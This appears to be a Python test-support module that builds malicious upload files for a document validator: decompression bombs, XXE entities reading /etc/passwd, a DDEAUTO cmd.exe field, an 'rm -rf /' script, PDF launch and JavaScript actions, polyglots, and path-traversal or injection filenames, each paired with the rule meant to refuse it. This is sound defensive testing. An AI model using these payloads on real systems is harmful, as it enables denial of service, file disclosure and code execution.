"""A collection of files that someone could upload: each made by code, with the rule that must refuse it.

`HOSTILE[name]` is the format that it is uploaded as, the rules of which one refuses it, and how it is made.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image

from tests.support import hostile
from tests.support.hostile import archive, docx, laughs, listing, mp3, pdf, picture, relations, sound, video


@dataclass(frozen=True)
class Hostile:
    """A file that must be refused, uploaded as `format`, by one of `rules`."""

    format: str
    rules: tuple[str, ...]
    make: Callable[[], bytes]


def raw_pdf(objects: dict[int, bytes], size: int | None = None, header: bytes = b"%PDF-1.7\n", root: int = 1) -> bytes:
    """A PDF of these objects with a sound cross-reference table; the trailer's /Size is `size` where given."""
    out, places = bytearray(header), {}
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    table, most = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % most
    for number in range(1, most):
        place = places.get(number)
        out += b"%010d 00000 n \n" % place if place else b"0000000000 00000 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size or most, root, table)
    return bytes(out)


PAGE = {
    1: b"<< /Type /Catalog /Pages 2 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
}


def million_objects() -> bytes:
    """A million objects in streams that pack to a few hundred kilobytes (ISO 32000-1, 7.5.7 and 7.5.8)."""
    each, streams = 10_000, 100
    out = bytearray(b"%PDF-1.7\n")
    entries = bytearray(b"\0" + b"\0" * 4 + b"\0\0")
    for number, content in PAGE.items():
        entries += b"\1" + struct.pack(">I", len(out)) + b"\0\0"
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    first = len(PAGE) + 1
    inside = bytearray()
    for stream in range(streams):
        entries += b"\1" + struct.pack(">I", len(out)) + b"\0\0"
        begin = first + streams + stream * each
        index = b" ".join(b"%d %d" % (begin + n, 2 * n) for n in range(each)) + b" "
        packed = zlib.compress(index + b"0 " * each)
        told = b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>" % (each, len(index), len(packed))
        out += b"%d 0 obj\n" % (first + stream) + told + b"\nstream\n" + packed + b"\nendstream\nendobj\n"
        inside += b"".join(b"\2" + struct.pack(">IH", first + stream, n) for n in range(each))
    own = first + streams + streams * each
    place = len(out)
    packed = zlib.compress(bytes(entries + inside) + b"\1" + struct.pack(">I", place) + b"\0\0")
    told = b"<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>" % (own + 1, len(packed))
    out += b"%d 0 obj\n" % own + told + b"\nstream\n" + packed + b"\nendstream\nendobj\n"
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % place)


def stream_bomb() -> bytes:
    """A page whose drawing unpacks to 600 MB."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b"0 " * 500_000) for _part in range(600)) + packer.flush()
    content = b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
    return raw_pdf({**PAGE, 3: PAGE[3][:-2] + b"/Contents 4 0 R >>", 4: content})


def nested_page() -> bytes:
    return raw_pdf({**PAGE, 3: PAGE[3][:-2] + b"/Nested " + b"[" * 100_000 + b"]" * 100_000 + b" >>"})


def boxed(box: str, unit: str = "1") -> bytes:
    page = f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /UserUnit {unit} >>"
    return raw_pdf({**PAGE, 3: page.encode()})


def hidden_pdf(picture_of: bytes) -> bytes:
    """A JPEG that PDF readers take for a PDF: one stands in its first comment (marker COM)."""
    inner = raw_pdf(PAGE)
    return picture_of[:2] + b"\xff\xfe" + struct.pack(">H", len(inner) + 2) + inner + picture_of[2:]


def gif_page() -> bytes:
    """A GIF that browsers take for a page: its comment holds one."""
    content = picture("GIF")
    comment = b"<html><script>alert(1)</script></html>"
    at = 13 + 3 * 2 ** ((content[10] & 7) + 1)
    return content[:at] + b"\x21\xfe" + bytes([len(comment)]) + comment + b"\0" + content[at:]


def apng() -> bytes:
    return picture("PNG", (16, 16), frames=3)


def many_frames(count: int = 10_000) -> bytes:
    """A GIF of so many frames of one pixel each, written by hand: an encoder would take minutes."""
    head = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
    frame = b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00"
    return head + frame * count + b"\x3b"


def tiff_bomb(pages: int = 500, side: int = 7000) -> bytes:
    """A TIFF of grey pages that are all the same packed strip."""
    strip = zlib.compress(b"\x80" * (side * side), 9)
    place = 8 + len(strip) + len(strip) % 2
    out = bytearray(b"II*\0" + struct.pack("<I", place) + strip.ljust(place - 8, b"\0"))
    for page in range(pages):
        told = [(256, 4, side), (257, 4, side), (258, 3, 8), (259, 3, 8), (262, 3, 1)]
        told += [(273, 4, 8), (277, 3, 1), (278, 4, side), (279, 4, len(strip))]
        directory = struct.pack("<H", len(told)) + b"".join(
            struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in told
        )
        after = len(out) + len(directory) + 4
        out += directory + struct.pack("<I", after if page + 1 < pages else 0)
    return bytes(out)


def endless_tiff() -> bytes:
    """A TIFF of one page whose directory says that the next one is itself."""
    content = bytearray(tiff_bomb(1, 8))
    (place,) = struct.unpack("<I", content[4:8])
    content[-4:] = struct.pack("<I", place)
    return bytes(content)


def cmyk() -> bytes:
    """A photograph in the four inks of a press."""
    target = io.BytesIO()
    Image.new("CMYK", (32, 32), (10, 200, 30, 0)).save(target, "JPEG")
    return target.getvalue()


def svg() -> bytes:
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def overlapping_bomb() -> bytes:
    """Many names for the same packed bytes: the archive's list says so, and nothing in it is large by itself."""
    plain = docx(**{"word/media/a.bin": b"\0" * 4_000_000})
    with zipfile.ZipFile(io.BytesIO(plain)) as zipped:
        place = next(one for one in zipped.infolist() if one.filename == "word/media/a.bin").header_offset
    end = plain.rindex(b"PK\x05\x06")
    total, size, start = struct.unpack("<HII", plain[end + 10 : end + 20])
    listed = plain[start : start + size]
    at = listed.index(b"word/media/a.bin") - 46
    entry = listed[at : at + 46 + 16]
    more = b"".join(entry[:46] + b"word/media/%05d" % number for number in range(1000))
    whole = listed + more
    assert struct.unpack("<I", entry[42:46])[0] == place
    told = struct.pack("<HHII", total + 1000, total + 1000, len(whole), start)
    return plain[:start] + whole + plain[end : end + 8] + told + b"\0\0"


def locked_docx() -> bytes:
    """A DOCX whose parts say that they are encrypted."""
    content = bytearray(docx())
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + flags] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def mp4_of(size: int, kind: bytes = b"moov") -> bytes:
    """A box that says it is this large, in 64 bits."""
    return video()[:24] + struct.pack(">I4sQ", 1, kind, size) + b"\0" * 64


def nested_boxes(depth: int = 20_000) -> bytes:
    content = hostile.box(b"hdlr", b"\0" * 8 + b"vide" + b"\0" * 14)
    for _level in range(depth):
        content = struct.pack(">I", len(content) + 8) + b"udta" + content
    return video()[:24] + hostile.box(b"moov", content)


def changed(old: str, new: str) -> Callable[[], bytes]:
    """A sound sequence listing with one thing that is not."""

    def make() -> bytes:
        content = listing(2).decode()
        assert old in content, old
        return content.replace(old, new, 1).encode()

    return make


def skipping() -> bytes:
    """A listing whose second sequence is left out, as ST.26, paragraph 58, has it."""
    skipped = f'</SequenceData>\n<SequenceData sequenceIDNumber="2">{hostile.SKIPPED}</SequenceData>\n</ST26'
    return listing(1, 2).replace(b"</SequenceData>\n</ST26", skipped.encode())


def _refused(format: str, rules: str, make: Callable[[], bytes]) -> Hostile:
    return Hostile(format, tuple(rules.split()), make)


def _pdf(rules: str, change: Callable[[Pdf], None], pages: int = 2) -> Hostile:
    return _refused("pdf", rules, lambda: pdf(change, pages))


def _docx(rules: str, name: str, content: bytes) -> Hostile:
    return _refused("docx", rules, lambda: docx(**{name: content}))


def _listing(rules: str, old: str, new: str) -> Hostile:
    return _refused("st26", rules, changed(old, new))


def _link(action: Dictionary, subtype: Name = Name.Link) -> Callable[[Pdf], None]:
    return hostile.annotated(1, Dictionary(Subtype=subtype, A=action))


HOSTILE: dict[str, Hostile] = {
    # a PDF that is something else as well
    "pdf and zip": _refused("pdf", "something-else", lambda: pdf() + archive(a=b"a")),
    "pdf and page": _refused("pdf", "something-else", lambda: pdf() + b"<html><script>alert(1)</script></html>"),
    "pdf and jpeg": _refused("pdf", "something-else", lambda: pdf() + picture("JPEG")),
    "zip before pdf": _refused("pdf", "other-format", lambda: archive(a=b"a") + pdf()),
    "page before pdf": _refused("pdf", "other-format", lambda: b"<html>" + pdf()),
    "program as pdf": _refused("pdf", "other-format", lambda: b"MZ\x90\x00" + b"\0" * 4000),
    "script as pdf": _refused("pdf", "other-format", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "elf as pdf": _refused("pdf", "other-format", lambda: b"\x7fELF" + b"\0" * 4000),
    # a PDF that acts
    "pdf javascript": _pdf("pdf-javascript", hostile.in_name_tree),
    "pdf javascript behind a link": _pdf("pdf-javascript", hostile.next_of_a_link),
    "pdf launch": _pdf("pdf-launch", _link(hostile.launch())),
    "pdf acts when opened": _pdf("pdf-open-action", hostile.opened(hostile.launch())),
    "pdf sends data": _pdf("pdf-sends-data", _link(Dictionary(S=Name.SubmitForm, F=String("x")), Name.Widget)),
    "pdf opens another file": _pdf("pdf-other-file", _link(Dictionary(S=Name.GoToR, F=String("\\\\evil\\x.pdf")))),
    "pdf plays a film": _pdf("pdf-rich-media", hostile.rich_media),
    "pdf with a file in it": _pdf("pdf-embedded-file", hostile.attachment),
    "pdf with a file on a page": _pdf(
        "pdf-embedded-file", hostile.annotated(1, Dictionary(Subtype=Name.FileAttachment))
    ),
    "pdf xfa": _pdf("pdf-xfa", hostile.form_of_xfa),
    # a PDF that not everybody can read, or not the same way
    "pdf locked": _refused("pdf", "pdf-encrypted", hostile.encrypted),
    "pdf locked for changes": _refused("pdf", "pdf-encrypted", lambda: hostile.encrypted(user="")),
    "pdf without its font": _pdf("pdf-font", hostile.with_font("/Arial")),
    "pdf of a later version": _refused("pdf", "pdf-version", lambda: b"%PDF-2.1" + pdf()[8:]),
    "pdf with a broken table": _refused("pdf", "damaged", lambda: pdf().replace(b"startxref", b"startxxxx")),
    "pdf cut off": _refused("pdf", "cut-off", lambda: pdf(pages=3)[:700]),
    "pdf without pages": _refused(
        "pdf", "no-pages damaged", lambda: raw_pdf({**PAGE, 2: b"<< /Type /Pages /Kids [] /Count 0 >>"})
    ),
    # a PDF that is too much
    "pdf of a million objects": _refused("pdf", "pdf-objects", million_objects),
    "pdf nested too deep": _refused("pdf", "damaged no-pages page-size", nested_page),
    "pdf whose pages hold themselves": _refused(
        "pdf", "damaged", lambda: raw_pdf({**PAGE, 2: b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"})
    ),
    "pdf of 2001 pages": _refused("pdf", "too-many-pages", lambda: pdf(pages=2001)),
    "pdf page of a mile": _refused("pdf", "page-size", lambda: boxed("0 0 9000000 9000000")),
    "pdf page by its unit": _refused("pdf", "page-size", lambda: boxed("0 0 595 842", "1000")),
    "pdf page without size": _refused("pdf", "page-size", lambda: boxed("0 0 0 0")),
    "pdf that unpacks to 600 MB": _refused("pdf", "unpacks-too-large", stream_bomb),
    # documents of a word processor
    "docx macros": _docx("docx-macros", "word/vbaProject.bin", b"x"),
    "docx macros by its type": _docx(
        "docx-macros", "[Content_Types].xml",
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/x.xml" '
        b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    ),
    "docx template from elsewhere": _docx(
        "docx-external", "word/_rels/settings.xml.rels", relations("attachedTemplate", "https://evil.example/t.dotm")
    ),
    "docx picture from elsewhere": _docx(
        "docx-external", "word/_rels/document.xml.rels", relations("image", "https://evil.example/p.png")
    ),
    "docx field that runs": _docx(
        "docx-external", "word/footer1.xml",
        f'<w:p xmlns:w="{hostile.WORD}"><w:r><w:instrText>DDEAUTO c:\\cmd.exe "/k"</w:instrText></w:r></w:p>'.encode(),
    ),
    "docx object in it": _docx("docx-embedded", "word/embeddings/oleObject1.bin", b"x"),
    "docx part outside of it": _docx("docx-path", "../../etc/cron.d/x", b"x"),
    "docx part on a drive": _docx("docx-path", "C:/x", b"x"),
    "docx bomb": _docx("unpacks-too-large", "word/media/a.bin", b"\0" * 30_000_000),
    "docx bomb of one part a thousand times": _refused("docx", "unpacks-too-large", overlapping_bomb),
    "docx entities": _docx("docx-entities", "word/document.xml", laughs().encode() + b"<a>&a9;</a>"),
    "docx locked": _refused("docx", "docx-encrypted", locked_docx),
    "zip as docx": _refused("docx", "other-format", lambda: archive(a=b"a")),
    "program behind docx": _refused("docx", "something-else", lambda: docx() + b"MZ\x90\x00"),
    # pictures
    "svg as png": _refused("image", "other-format", svg),
    "webp as png": _refused("image", "other-format", lambda: picture("WEBP")),
    "png of 60,000 by 60,000": _refused("image", "too-many-pixels", hostile.png_bomb),
    "png that moves": _refused("image", "animated", apng),
    "png and zip": _refused("image", "something-else", lambda: picture() + archive(a=b"a")),
    "png cut off": _refused("image", "cut-off damaged", lambda: picture()[:2000]),
    "jpeg and page": _refused("image", "something-else", lambda: picture("JPEG") + b"<script>alert(1)</script>"),
    "jpeg that is a pdf": _refused("image", "something-else", lambda: hidden_pdf(picture("JPEG"))),
    "jpeg cut off": _refused("image", "cut-off damaged", lambda: picture("JPEG")[:-200]),
    "gif that is a page": _refused("image", "something-else", gif_page),
    "gif of 10,000 frames": _refused("image", "animated", many_frames),
    "tiff of 500 large pages": _refused("image", "unpacks-too-large", tiff_bomb),
    "tiff of 3,000 pages": _refused("image", "too-many-pages", lambda: tiff_bomb(3000, 8)),
    # sounds and videos
    "mp3 cut off": _refused("sound", "cut-off", lambda: mp3()[:-100]),
    "mp3 and zip": _refused("sound", "something-else", lambda: mp3() + archive(a=b"a")),
    "mp3 and page": _refused("sound", "something-else", lambda: mp3() + b"<html></html>"),
    "wav cut off": _refused("sound", "cut-off", lambda: sound()[:-100]),
    "wav and program": _refused("sound", "something-else", lambda: sound() + b"MZ\x90\x00"),
    "wav of nothing": _refused("sound", "nothing-to-play", lambda: sound(0)),
    "mp4 of a sound": _refused("video", "nothing-to-play", lambda: video(b"soun")),
    "mp4 of an exabyte": _refused("video", "cut-off", lambda: mp4_of(1 << 60)),
    "mp4 nested too deep": _refused("video", "damaged not-examined nothing-to-play", nested_boxes),
    "mp4 of 20,000 boxes": _refused("video", "damaged", lambda: video() + hostile.box(b"free", b"") * 20_000),
    "mp4 and zip": _refused("video", "something-else", lambda: video() + archive(a=b"a")),
    # sequence listings
    "listing reads a file": _listing(
        "xml-entities", hostile.DOCTYPE, '<!DOCTYPE ST26SequenceListing [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    ),
    "listing fetches": _listing(
        "xml-entities xml-syntax", hostile.DOCTYPE,
        '<!DOCTYPE ST26SequenceListing [<!ENTITY % x SYSTEM "http://127.0.0.1:9/x">%x;]>',
    ),
    "listing laughs": _listing("xml-entities", hostile.DOCTYPE, laughs()),
    "listing of another document type": _listing("st26-doctype", "-//WIPO//DTD Sequence Listing 1.3//EN", "-//W3C//X"),
    "listing without document type": _listing("st26-doctype", hostile.DOCTYPE, ""),
    "listing of another version": _listing("st26-version", 'dtdVersion="V1_3"', 'dtdVersion="1.3"'),
    "listing not well-formed": _listing("xml-syntax", "</ApplicantFileReference>", "</Applicant>"),
    "listing with a strange element": _listing("st26-structure", "<SequenceTotal", "<Evil/><SequenceTotal"),
    "page as listing": _refused("st26", "other-format", lambda: b"<!DOCTYPE html><html></html>"),
}  # fmt: skip
"""What must be refused, by name."""

INNOCENT: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pdf that opens at a page": (
        "pdf", lambda: pdf(hostile.opened(lambda document: Array([document.pages[0].obj, Name.Fit]))),
    ),
    "pdf with a link": ("pdf", lambda: pdf(_link(Dictionary(S=Name.URI, URI=String("https://ipo.example"))))),
    "pdf with a standard font": ("pdf", lambda: pdf(hostile.with_font("/Helvetica", "/Type1"), 2)),
    "jpeg with its preview": ("image", lambda: picture("JPEG") + picture("JPEG", (16, 16))),
    "jpeg of a printer": ("image", cmyk),
    "tiff of two pages": ("image", lambda: tiff_bomb(2, 64)),
    "tiff without end": ("image", endless_tiff),
    "docx with a link": (
        "docx", lambda: docx(**{"word/_rels/document.xml.rels": relations("hyperlink", "https://ipo.example")}),
    ),
    "listing with a skipped sequence": ("st26", skipping),
}  # fmt: skip
"""What looks odd and is accepted: refusing it would turn away what agents have."""

NAMES = {
    "../../etc/passwd": "passwd",
    "..\\..\\windows\\system32\\x.pdf": "x.pdf",
    "C:\\Users\\Zoë\\claims.pdf": "claims.pdf",
    "/absolute/claims.pdf": "claims.pdf",
    "x" * 300 + ".pdf": "x" * 248 + "….pdf",
    "claims\x00.exe.pdf": "claims.exe.pdf",
    "claims\r\nSet-Cookie: a=b.pdf": "claimsSet-Cookie: a=b.pdf",
    "annexe\u202efdp.exe.pdf": "annexefdp.exe.pdf",
    "\ufeffclaims\u2028.pdf": "claims.pdf",
    "CON.pdf": "CON_.pdf",
    "nul": "nul_",
    "com1.tar.pdf": "com1_.tar.pdf",
    "...": "document",
    ".pdf. . ": "pdf",
    "مواصفات الاختراع.pdf": "مواصفات الاختراع.pdf",
    "የፈጠራ መግለጫ.pdf": "የፈጠራ መግለጫ.pdf",
    "发明说明书.pdf": "发明说明书.pdf",
    "👩🏽‍🔬 results 🧪.pdf": "👩🏽‍🔬 results 🧪.pdf",
    "cafe\u0301 z\u0336a\u0336l\u0336g\u0336o\u0336.pdf": "café z\u0336a\u0336l\u0336g\u0336o\u0336.pdf",
    "नमस्ते.pdf": "नमस्ते.pdf",
    "<script>alert(1)</script>.pdf": "script>.pdf",
    "'; DROP TABLE drafts;--.pdf": "'; DROP TABLE drafts;--.pdf",
}
"""Names that somebody may give a file, and the name that is kept. What is a name in any script stays as it is."""


def with_virus_in_stream() -> bytes:
    """A correct PDF, with the test virus as the content of a stream that no page uses."""

    def change(document: Pdf) -> None:
        document.Root["/Unused"] = Stream(document, hostile.EICAR)

    return pdf(change, compress_streams=False)
